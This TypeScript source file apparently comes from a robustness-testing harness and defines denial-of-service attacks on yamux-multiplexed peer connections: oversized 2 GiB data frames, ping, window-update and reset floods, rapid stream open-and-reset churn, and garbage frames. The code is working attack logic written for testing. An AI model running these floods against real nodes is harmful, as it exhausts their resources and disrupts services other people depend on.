/** Attacks by yamux frames on a connection whose handshake is complete. */
import { again, lanes } from './attack.ts'
import type { Attack, Context } from './attack.ts'
import { identifiedSession, protocols } from './peer.ts'
import { flag, frameType, yamuxFrame } from './wire/yamux.ts'
import type { Session } from './wire/session.ts'

/** Writes what `chunk` gives until the victim ends the connection. */
async function pour(context: Context, session: Session, what: string, perChunk: number, chunk: () => Uint8Array): Promise<void> {
  while (!context.isOver && !session.isClosed) {
    session.raw(chunk())
    context.count(what, perChunk)
    await session.channel.drained()
    await context.breathe()
  }
}

function repeated(count: number, frame: (i: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, i) => frame(i)))
}

/** An attack on fresh connections, one after the other, in some lanes at once. */
function frames(
  name: string,
  fault: 0 | 1 | 5,
  does: string,
  act: (context: Context, session: Session) => Promise<void>,
  parallel = 1
): Attack {
  return {
    name,
    fault,
    does,
    run: async context => {
      await lanes(parallel, async () => {
        await again(context, 'connections', async () => {
          const session = await identifiedSession(context)
          await act(context, session)
          session.close()
        })
      })
    }
  }
}

/** A data frame on an open ping stream that declares 2 GiB; its bytes are poured, or trickle at 1 KiB a second. */
async function hugeFrame(context: Context, session: Session, isSlow: boolean): Promise<void> {
  const stream = await session.open(protocols.ping)
  session.raw(yamuxFrame(frameType.data, flag.none, stream.id, 0x7fff_ffff))
  const bytes = Buffer.alloc(isSlow ? 1_024 : 256 * 1024)
  while (!context.isOver && !session.isClosed) {
    session.raw(bytes)
    context.count('bytes', bytes.length)
    await session.channel.drained()
    await (isSlow ? context.pause(1_000) : context.breathe())
  }
}

async function streamChurn(context: Context, session: Session, closing: number): Promise<void> {
  await pour(context, session, 'streams', 500, () =>
    repeated(500, () => {
      const id = session.takeStreamId()
      return Buffer.concat([
        yamuxFrame(frameType.window, flag.syn, id, 0),
        yamuxFrame(closing === flag.rst ? frameType.window : frameType.data, closing, id, 0)
      ])
    })
  )
}

export const muxerAttacks: readonly Attack[] = [
  frames(
    'yamux-huge-frame',
    5,
    'data frames that declare 2 GiB and then pour, or trickle',
    async (context, session) => {
      await hugeFrame(context, session, context.random.below(4) === 0)
    },
    4
  ),
  frames(
    'yamux-pings-never-read',
    5,
    'yamux pings without pause on a connection that is not read',
    async (context, session) => {
      session.channel.pause()
      const chunk = repeated(4_000, i => yamuxFrame(frameType.ping, flag.syn, 0, i))
      await pour(context, session, 'pings', 4_000, () => chunk)
    },
    2
  ),
  frames(
    'yamux-garbage',
    1,
    'random bytes, and frames of random types, flags and streams, after the handshake',
    async (context, session) => {
      const { random } = context
      const wild = (): Buffer =>
        yamuxFrame(random.below(5), random.below(16), random.below(8), random.below(32), random.bytes(random.below(32)))
      session.raw(random.below(2) === 0 ? random.bytes(random.below(256)) : repeated(16, wild))
      await context.pause(20)
    },
    4
  ),
  frames('yamux-unrequested-pong', 1, 'answers to pings that were not sent', async (context, session) => {
    session.raw(yamuxFrame(frameType.ping, flag.ack, 0, 7))
    await context.pause(20)
  }),
  frames(
    'yamux-window-flood',
    0,
    'window updates without pause, for streams that are open and that are not',
    async (context, session) => {
      const stream = await session.open(protocols.ping)
      const chunk = repeated(4_000, i => yamuxFrame(frameType.window, flag.none, i % 2 === 0 ? stream.id : 99_999, 1))
      await pour(context, session, 'frames', 4_000, () => chunk)
    }
  ),
  frames('yamux-rst-flood', 0, 'resets without pause of streams that are not open', async (context, session) => {
    const chunk = repeated(4_000, i => yamuxFrame(frameType.window, flag.rst, 2 * i + 1, 0))
    await pour(context, session, 'frames', 4_000, () => chunk)
  }),
  frames('stream-churn-fin', 5, 'opens streams and closes them at once, without pause', async (context, session) => {
    await streamChurn(context, session, flag.fin)
  }),
  frames(
    'stream-churn-rst',
    5,
    'opens streams and resets them at once, without pause (rapid reset)',
    async (context, session) => {
      await streamChurn(context, session, flag.rst)
    }
  ),
  frames(
    'yamux-go-away',
    0,
    'ends the connection by go-away, of any reason, after the handshake',
    async (context, session) => {
      session.raw(yamuxFrame(frameType.goAway, flag.none, 0, context.random.below(4)))
      await context.pause(20)
    },
    4
  )
]
